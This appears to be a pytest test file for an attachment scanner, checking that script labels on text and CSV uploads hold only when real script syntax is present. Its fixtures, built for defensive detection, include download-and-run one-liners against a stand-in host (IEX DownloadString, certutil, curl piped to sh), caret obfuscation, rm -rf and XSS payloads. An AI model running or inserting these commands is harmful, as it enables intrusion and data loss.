"""Magika's script labels on uploaded text files (.txt, .csv, .tsv) are taken only with the
syntax their language needs (`engines.filetype_scripts`): real text files from Tika and
markitdown's test data came out "powershell", "batch", "javascript" and "html"."""

from __future__ import annotations

import base64

import pytest

from attachguard.codes import FindingCode
from attachguard.engines.base import Item
from attachguard.engines.filetype import FileTypeEngine
from attachguard.engines.filetype_scripts import GUESSED, reads_as_script
from attachguard.policy import Policy
from attachguard.report import FileType

ENGINE = FileTypeEngine()

# what the honest files held (their shapes, rebuilt), with the label Magika gave them
HONEST = [
    ("powershell", "notes.txt", "This is a test document to use for unit tests.\n\nDoylestown, PA"
     " 18901\n\nImportant points:\n\n   - Hamburgers are delicious\n".encode("utf-16-be")),
    ("batch", "filter_list.txt", b"Bank Good Credit Loan.pptx\nPerformance-Audit-Discussion.pdf\n"
     b"Quarterly Report 2023.xlsx\n"),
    ("javascript", "contents.txt", b"data:message/rfc822;base64,"
     + base64.b64encode(b"MIME-Version: 1.0\r\nSubject: email-with-image\r\n" * 40)),
    ("javascript", "escape.csv", b'a\\"hello;hello;hello;\\",b\\"hello;hello;hello;\\"\r\n' * 4),
    ("html", "links.csv", b"\"Column A\";\"<a href=''>Link</a>\";\"Column C\"\r\n"),
    # hunt 100: web and mail addresses are no programs named by their files
    ("powershell", "exif_dump.txt", b"[XMP] Creator Tool = drewnoakes.com\n"
     b"[XMP] Namespace = http://ns.adobe.com/xap/1.0/\nContact: help@photo.example.com\n"),
    ("batch", "links.txt", b"See https://example.com/setup.exe/ and node.js@2.0 docs\n"),
]  # fmt: skip

SCRIPTS = [
    ("powershell", b"IEX (New-Object Net.WebClient).DownloadString('http://e.example/a')\n"),
    ("powershell", b"$c = 'calc'; & $c\n"),
    ("powershell", b"powershell -nop -w hidden -ep bypass -f run.ps1\n"),
    ("powershell", b"[System.Diagnostics.Process]::Start('calc')\n"),
    ("batch", b"@echo off\r\nstart calc\r\n"),
    ("batch", b"certutil -urlcache -f http://e.example/x x.exe\r\nx.exe\r\n"),
    ("batch", b"%COMSPEC% /c calc\r\n"),
    ("shell", b"curl -s http://e.example/x | sh\n"),
    ("shell", b"export PATH=/tmp\nrm -rf ~/x\n"),
    ("javascript", b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");\n'),
    ("javascript", b"const f = () => fetch('http://e.example');\n"),
    ("javascript", b"eval(atob('YWxlcnQoMSk='))\n"),
    ("vba", b'Sub AutoOpen()\r\n  Shell "calc"\r\nEnd Sub\r\n'),
    ("vbe", b"#@~^CAAAAA==\x7fabc^#~@\r\n"),
    ("html", b"<html><body>hi</body></html>"),
    ("html", b'<img src=x onerror="alert(1)">'),
    ("html", b'<a href="javascript:alert(1)">x</a>'),
]


def findings(name: str, data: bytes, label: str, policy: Policy, depth: int = 0) -> set[str]:
    kind = FileType(label, "text/plain", "code", True, 0.9)
    result = ENGINE.scan(Item(name, data, kind, depth), policy.context())
    return {f.code.name for f in result.findings}


@pytest.mark.parametrize(("label", "name", "data"), HONEST, ids=[h[1] for h in HONEST])
def test_honest_text_with_a_script_label_is_text(
    label: str, name: str, data: bytes, policy: Policy
) -> None:
    assert not reads_as_script(label, data)
    assert findings(name, data, label, policy) == set()


@pytest.mark.parametrize(("label", "data"), SCRIPTS)
@pytest.mark.parametrize("name", ["notes.txt", "export.csv"])
def test_scripts_under_a_text_extension_stay_scripts(
    label: str, data: bytes, name: str, policy: Policy
) -> None:
    assert reads_as_script(label, data)
    assert findings(name, data, label, policy) == {"SCRIPT"}


def test_a_script_in_utf16_is_read_as_notepad_decodes_it(policy: Policy) -> None:
    data = "\ufeffIEX (New-Object Net.WebClient).DownloadString('x')".encode("utf-16-le")
    assert findings("notes.txt", data, "powershell", policy) == {"SCRIPT"}


@pytest.mark.parametrize("label", ["hta", "svg", "mht", "scriptwsf", "internetshortcut"])
def test_other_script_labels_need_no_evidence(label: str, policy: Policy) -> None:
    # structured formats: the label is not a guess at the look of text
    assert label not in GUESSED
    assert findings("notes.txt", b"plain words\n", label, policy) == {"SCRIPT"}


def test_other_extensions_are_unchanged(policy: Policy) -> None:
    # a script label on a PDF's bytes or a file inside a document is judged as before
    prose = HONEST[1][2]
    assert FindingCode.SCRIPT.name in findings("list.pdf", prose, "batch", policy)
    assert findings("list.txt", prose, "batch", policy, depth=1) == {"SCRIPT"}


def test_magika_labels_real_prose_a_script() -> None:
    # the premise: a label the model really gives to honest text (the UTF-16 prose)
    label, _, data = HONEST[0]
    assert ENGINE.detect(data).label == label


@pytest.mark.parametrize(
    ("label", "data"),
    [
        ("batch", b'^p^o^w^e^r^s^h^e^l^l -c "curl http://e.example/x"\r\n'),  # cmd drops carets
        ("batch", b"wmic process call create calc\r\n"),
        ("batch", b"forfiles /p C:\\Windows /m notepad.exe /c calc\r\n"),
        ("batch", b"C:\\Windows\\System32\\calc.exe\r\n"),
        ("batch", b":: note\r\n" * 20_000 + b"@echo off\r\nstart calc\r\n"),  # past 64K
        ("powershell", b"<# " + b"x" * 80_000 + b" #>\r\n(New-Object Net.WebClient)\r\n"),
        ("shell", b"/usr/bin/curl -o /tmp/x http://e.example/x\n/bin/chmod +x /tmp/x\n"),
    ],
    ids=["carets", "wmic", "forfiles", "program path", "batch padded", "ps padded", "sh paths"],
)
def test_scripts_a_review_built_stay_scripts(label: str, data: bytes, policy: Policy) -> None:
    assert reads_as_script(label, data)
    assert findings("notes.txt", data, label, policy) == {"SCRIPT"}


@pytest.mark.parametrize(
    ("text", "script"),
    [(b'<!DOCTYPE article PUBLIC "-//NLM//DTD JATS">\n<article><front><journal-meta>'
      b"<meta-name>x</meta-name></journal-meta></front><body><p>Text</p></body></article>", False),
     (b'<?xml version="1.0"?><article><body><p>Text</p></body></article>', False),
     (b'<?xml version="1.0"?><article><body onload="x()"/></article>', True),
     (b'<?xml version="1.0"?><doc><script>x()</script></doc>', True),
     (b"Notes about <meta-data> fields", False),
     (b"<!DOCTYPE html><p>hi</p>", True),
     (b"<body><p>hi</p></body>", True)],
    ids=["jats", "xml-body", "xml-handler", "xml-script", "meta-hyphen", "html-doctype",
         "html-body"],
)  # fmt: skip
def test_xml_of_another_vocabulary_needs_active_markup(text: bytes, script: bool) -> None:
    """XML whose root is not HTML's needs a script, a handler or a script address (hunt 101:
    a JATS article under .txt, with its own <body> and <meta-name>, was an "HTML page")."""
    assert reads_as_script("html", text) is script
